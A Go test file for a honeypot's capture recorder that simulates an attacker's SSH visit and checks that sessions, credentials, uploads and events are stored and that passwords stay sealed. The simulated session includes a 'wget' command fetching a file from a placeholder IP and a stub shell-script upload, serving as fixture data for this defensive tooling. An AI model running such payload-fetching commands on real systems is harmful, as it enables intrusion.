package capture_test

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"go.cordon.dev/cordon/internal/audit"
	"go.cordon.dev/cordon/internal/clock"
	"go.cordon.dev/cordon/internal/deception/capture"
	"go.cordon.dev/cordon/internal/deception/service"
	"go.cordon.dev/cordon/internal/event"
	"go.cordon.dev/cordon/internal/ingest/spool"
	"go.cordon.dev/cordon/internal/sqlstore"
	"go.cordon.dev/cordon/internal/store/storetest"
)

// intrude is an attacker's visit: two passwords, one of them no text, a shell with
// two commands, a file.
func intrude(r service.Sink, c *clock.Fake) *service.Session {
	s := service.NewSession(r, c, "web-1", "ssh", client(9), local())
	s.Record(service.ClientHello, nil, field("client", "SSH-2.0-Go"))
	for _, secret := range []string{"\x00\xff", "", "", "correct-horse"} {
		s.Attempt(service.Credential{Kind: service.Plaintext, Principal: "root", Secret: []byte(secret), Accepted: secret == "correct-horse", Details: []service.Field{field("method", "password")}})
	}
	s.Record(service.LoggedIn, nil, field("user", "root"))
	v := s.Screen(80, 24)
	for _, line := range []string{"echo correct-horse", "wget \x1b[31mhttp://198.51.100.7/x\n"} {
		c.Advance(time.Second)
		v.Output([]byte("$ "))
		v.Input([]byte(line))
		s.Record(service.Command, []byte(line), field("line", line))
	}
	s.Keep(service.Artifact{Kind: "upload", Path: "/tmp/\x00x", MediaType: "text/x-shellscript", Data: []byte("#!/bin/sh\n"), Size: 99})
	c.Advance(time.Second)
	s.End("the client left")
	return s
}

func TestWhatAClientDoesIsOnRecord(t *testing.T) {
	c := clock.NewFake(noon)
	r := newRoom(t, func(d *capture.Deps) { d.Clock = c })
	s := intrude(r, c)
	r.done(t)
	ctx := storetest.Context(t)

	got, err := r.Session(ctx, s.ID())
	must(t, err)
	end := noon.Add(3 * time.Second)
	want := capture.Session{
		ID: s.ID(), Node: "n1", Decky: "web-1", Service: "ssh", AttackerIP: "203.0.0.9", AttackerPort: 40022, Local: "192.0.2.7:22",
		StartedAt: noon, SeenAt: end, EndedAt: &end, EndReason: "the client left", Observations: 11, Attempts: 4, Commands: 2, Artifacts: 1,
		LoggedIn: true, Interacted: true, Principal: "root", Banner: "SSH-2.0-Go", Transcript: got.Transcript,
	}
	if diff := cmp.Diff(want, got); diff != "" || got.Transcript == 0 {
		t.Errorf("session (-want +got):\n%s", diff)
	}

	logs, err := r.Logs(ctx, capture.LogFilter{Session: s.ID()}, "", 100)
	must(t, err)
	slices.Reverse(logs)
	var words []string
	for i, l := range logs {
		if l.Number != uint64(i+1) {
			t.Errorf("log %d has number %d", i+1, l.Number)
		}
		words = append(words, l.EventType+": "+l.Summary)
	}
	if diff := cmp.Diff([]string{
		"connected: connected from 203.0.0.9:40022", "client_hello: SSH-2.0-Go",
		`login_attempt: plaintext as "root", refused`, `login_attempt: plaintext as "root", refused`, `login_attempt: plaintext as "root", refused`, `login_attempt: plaintext as "root", accepted`,
		"logged_in: root", "command: echo [sealed]", "command: wget \uFFFD[31mhttp://198.51.100.7/x", "upload: upload /tmp/\uFFFDx (99 bytes)", "disconnected: the client left",
	}, words); diff != "" {
		t.Errorf("summaries (-want +got):\n%s", diff)
	}
	evidence, err := r.RevealLog(ctx, logs[7].ID, ada())
	must(t, err)
	if string(evidence.Raw) != "echo correct-horse" || string(evidence.Fields[0].Value) != "echo correct-horse" {
		t.Errorf("the evidence of a command is %q", evidence)
	}
}

func TestCredentialsAreExact(t *testing.T) {
	c := clock.NewFake(noon)
	r := newRoom(t, func(d *capture.Deps) { d.Clock = c })
	intrude(r, c)
	intrude(r, c)
	r.done(t)
	ctx := storetest.Context(t)
	all, err := r.Credentials(ctx, capture.CredentialFilter{AttackerIP: "203.0.0.9"}, "", 10)
	must(t, err)
	got := map[string]capture.Credential{}
	for _, one := range all {
		shown, err := r.Reveal(ctx, one.ID, ada())
		must(t, err)
		if shown.Principal.Reveal() != "root" || len(shown.Details) != 1 || one.Fingerprint != r.ring.Fingerprint([]byte(shown.Secret.Reveal())) {
			t.Errorf("%+v is %q", one, shown.Secret.Reveal())
		}
		got[shown.Secret.Reveal()] = one
	}
	for secret, attempts := range map[string]int{"\x00\xff": 2, "": 4, "correct-horse": 2} {
		if one := got[secret]; one.Attempts != attempts || one.Accepted != (secret == "correct-horse") || one.Leaked || !one.FirstSeen.Equal(noon) {
			t.Errorf("%q: %+v", secret, one)
		}
	}
	entries, err := sqlstore.NewAudit(r.store).ListAudit(ctx, audit.Filter{}, 0, 10)
	if err != nil || len(entries) != 3 || entries[0].Actor.Name != "ada" || entries[0].Reason != "to warn the owner" || !strings.HasPrefix(entries[0].Target, "credential ") {
		t.Errorf("the audit log has %+v, %v", entries, err)
	}
	if _, err := r.Reveal(ctx, "nobody", ada()); !errors.Is(err, capture.ErrNotFound) {
		t.Errorf("one that there is not: %v", err)
	}
}

func TestEventsTellWithoutTheSecret(t *testing.T) {
	c := clock.NewFake(noon)
	r := newRoom(t, func(d *capture.Deps) { d.Clock = c })
	s := intrude(r, c)
	r.done(t)
	topics := map[string]int{}
	for _, e := range r.events(t) {
		topics[e.Topic]++
		if strings.Contains(string(e.Data), "correct-horse") {
			t.Errorf("%s holds a password: %s", e.Topic, e.Data)
		}
		var contact event.Contact
		must(t, json.Unmarshal(e.Data, &contact))
		if contact.Session != s.ID() || contact.Decky != "web-1" || contact.SourceIP != "203.0.0.9" || contact.AttackerID != event.AttackerID(client(9).Addr()) {
			t.Errorf("%s: %+v", e.Topic, contact)
		}
	}
	want := map[string]int{event.TopicSessionStarted: 1, event.TopicSessionEnded: 1, "decky.web-1.traffic": 9, event.TopicCredentialCaptured: 3}
	if diff := cmp.Diff(want, topics); diff != "" {
		t.Errorf("events (-want +got):\n%s", diff)
	}
}

func TestArtifactsAreKeptOnceAndCanBeRead(t *testing.T) {
	r := newRoom(t, nil)
	c := clock.NewFake(time.Now())
	first := intrude(r, c)
	intrude(r, c)
	r.done(t)
	ctx := storetest.Context(t)
	all, err := r.Artifacts(ctx, capture.ArtifactFilter{Decky: "web-1"}, "", 10)
	must(t, err)
	if len(all) != 2 || all[1].Session != first.ID() || all[0].SHA256 != all[1].SHA256 || all[0].Size != 99 || all[0].Kept != 10 || all[0].Path != "/tmp/\uFFFDx" {
		t.Fatalf("artifacts %+v", all)
	}
	found, err := r.FindArtifact(ctx, "web-1", "ssh", all[0].StoredAs())
	must(t, err)
	a, data, err := r.RevealArtifact(ctx, found.ID, ada())
	if err != nil || string(data) != "#!/bin/sh\n" || a.ID != all[0].ID {
		t.Errorf("%+v, %q, %v", a, data, err)
	}
	files, _ := filepath.Glob(filepath.Join(r.dir, "evidence", all[0].Day, "*"))
	if len(files) != 2 { // the content and the day's key
		t.Errorf("files %v", files)
	}
	if _, err := r.FindArtifact(ctx, "web-2", "ssh", all[0].StoredAs()); !errors.Is(err, capture.ErrNotFound) {
		t.Errorf("of another decky: %v", err)
	}
}

// A full disk keeps what can be kept: everything but the content.
func TestWithoutRoomTheContentIsDropped(t *testing.T) {
	c := clock.NewFake(noon)
	r := newRoom(t, func(d *capture.Deps) { d.Clock = c })
	must(t, os.WriteFile(filepath.Join(r.dir, "evidence", noon.Format(time.DateOnly)), nil, 0o600)) // where the folder should be
	s := intrude(r, c)
	r.done(t)
	all, err := r.Artifacts(storetest.Context(t), capture.ArtifactFilter{Session: s.ID()}, "", 10)
	if err != nil || len(all) != 1 || all[0].Kept != 0 || all[0].SHA256 == "" {
		t.Errorf("artifacts %+v, %v", all, err)
	}
	if _, _, err := r.RevealArtifact(storetest.Context(t), all[0].ID, ada()); !errors.Is(err, capture.ErrNoData) {
		t.Errorf("its content: %v", err)
	}
	if logs, err := r.Logs(storetest.Context(t), capture.LogFilter{Session: s.ID()}, "", 100); err != nil || len(logs) != 11 || r.Stats().Artifacts != 1 {
		t.Errorf("%d logs, %v, %+v", len(logs), err, r.Stats())
	}
}

// away is a store that can be away.
type away struct {
	capture.Store
	gone chan bool // holds whether it is
}

var errAway = errors.New("the store is away")

func (a away) is() bool {
	now := <-a.gone
	a.gone <- now
	return now
}

func (a away) Capture(ctx context.Context, b capture.Batch) error {
	if a.is() {
		return errAway
	}
	if err := a.Store.Capture(ctx, b); err != nil {
		return err
	}
	return a.Store.Capture(ctx, b) // that comes again changes nothing
}

// While the store is away batches wait on disk, in their order and sealed, also over
// a restart.
func TestWhatTheStoreDoesNotTakeWaitsOnDisk(t *testing.T) {
	dir := t.TempDir()
	disk, err := spool.Open(filepath.Join(dir, "spool"), spool.Limits{})
	must(t, err)
	gone := make(chan bool, 1)
	gone <- true
	c := clock.NewFake(time.Now())
	r := newRoom(t, func(d *capture.Deps) { d.Spool, d.Store = disk, away{d.Store, gone} })
	stop := r.run(t)
	first := intrude(r, c)
	eventually(t, "the spool", func() bool { return r.Stats().Spooled > 0 && r.Stats().Queued == 0 })
	second := intrude(r, c)
	stop()
	disk.Close()
	text, err := os.ReadFile(first1(t, filepath.Join(dir, "spool", "*")))
	if err != nil || strings.Contains(string(text), "correct-horse") || !strings.Contains(string(text), first.ID()) {
		t.Fatalf("the spool has %d bytes, %v, or a password", len(text), err)
	}

	disk, err = spool.Open(filepath.Join(dir, "spool"), spool.Limits{})
	must(t, err)
	defer disk.Close()
	<-gone
	gone <- false
	after := openRoom(t, r.dir, r.store, func(d *capture.Deps) { d.Spool, d.Store = disk, away{d.Store, gone} })
	after.run(t)
	third := intrude(after, c)
	for _, s := range []*service.Session{first, second, third} {
		eventually(t, "a session that ended", func() bool {
			got, err := after.Session(storetest.Context(t), s.ID())
			return err == nil && got.EndedAt != nil && got.Observations == 11
		})
	}
	all, err := after.Credentials(storetest.Context(t), capture.CredentialFilter{}, "", 10)
	must(t, err)
	attempts := 0
	for _, one := range all {
		attempts += one.Attempts
	}
	if attempts != 12 {
		t.Errorf("%d attempts are counted", attempts)
	}
	eventually(t, "an empty spool", func() bool { return after.Stats().Spooled == 0 })
}

// A spool that is full holds everybody up only while the store is away: when it
// is back, what waits on disk makes room for what waits in memory.
func TestAFullSpoolIsEmptiedWhenTheStoreIsBack(t *testing.T) {
	disk, err := spool.Open(filepath.Join(t.TempDir(), "spool"), spool.Limits{Total: 40 << 10})
	must(t, err)
	defer disk.Close()
	gone := make(chan bool, 1)
	gone <- true
	c := clock.NewFake(time.Now())
	r := newRoom(t, func(d *capture.Deps) { d.Spool, d.Store = disk, away{d.Store, gone} })
	r.run(t)
	var all []*service.Session
	full := func() bool { return strings.Contains(r.log.String(), "neither store nor spool") }
	for !full() {
		all = append(all, intrude(r, c))
		// The rest of a session may stay behind what filled the spool.
		eventually(t, "a batch", func() bool { return r.Stats().Queued == 0 || full() })
	}
	<-gone
	gone <- false
	for _, s := range all {
		eventually(t, "a session that ended", func() bool {
			got, err := r.Session(storetest.Context(t), s.ID())
			return err == nil && got.EndedAt != nil && got.Observations == 11
		})
	}
	// It counts behind the store.
	eventually(t, "what is counted", func() bool { return r.Stats().Stored == uint64(len(all)*observed) })
	if got := r.Stats(); got.Lost != 0 {
		t.Errorf("of %d sessions %+v", len(all), got)
	}
}

// observed is how many observations intrude makes, frames included.
const observed = 16

func first1(t *testing.T, pattern string) string {
	t.Helper()
	names, err := filepath.Glob(pattern)
	if err != nil || len(names) == 0 {
		t.Fatalf("%s: %v, %v", pattern, names, err)
	}
	return names[0]
}

// Who died with sessions open did not see them end; the next run says so, and leaves
// its own alone.
func TestSessionsOfAnEarlierRunEnd(t *testing.T) {
	r := newRoom(t, nil)
	stop := r.run(t)
	old := service.NewSession(r, clock.Real{}, "web-1", "ssh", client(1), local())
	eventually(t, "the session", func() bool { _, err := r.Session(storetest.Context(t), old.ID()); return err == nil })
	stop()
	again := openRoom(t, r.dir, r.store, nil)
	now := service.NewSession(again, clock.Real{}, "web-1", "ssh", client(2), local())
	again.run(t)
	eventually(t, "the next session", func() bool { _, err := r.Session(storetest.Context(t), now.ID()); return err == nil })
	was, err := r.Session(storetest.Context(t), old.ID())
	if err != nil || was.EndedAt == nil || was.EndReason == "" {
		t.Errorf("%+v, %v", was, err)
	}
	if is, err := r.Session(storetest.Context(t), now.ID()); err != nil || is.EndedAt != nil {
		t.Errorf("%+v, %v", is, err)
	}
}

// Who attacks faster than can be stored waits; whoever is late is told nothing and
// counted.
func TestTheQueueIsBounded(t *testing.T) {
	r := newRoom(t, nil)
	filled := make(chan int)
	go func() {
		s := service.NewSession(r, clock.Real{}, "web-1", "ssh", client(1), local())
		for n := range 12_000 {
			s.Record(service.Command, nil)
			if n == 1_000 {
				filled <- n
			}
		}
		s.End("")
		close(filled)
	}()
	<-filled
	eventually(t, "a full queue", func() bool { return r.Stats().Queued == 8_192 })
	r.run(t)
	<-filled
	eventually(t, "an empty queue", func() bool { return r.Stats().Stored == 12_002 })
	must(t, r.Recorder.Close(storetest.Context(t)))
	service.NewSession(r, clock.Real{}, "web-1", "ssh", client(1), local())
	if got := r.Stats(); got.Lost != 1 || got.Queued != 0 {
		t.Errorf("%+v", got)
	}
}

func TestARecorderNeedsItsParts(t *testing.T) {
	if _, err := capture.New(capture.Deps{Node: "n"}); err == nil {
		t.Error("a recorder is made of nothing")
	}
}
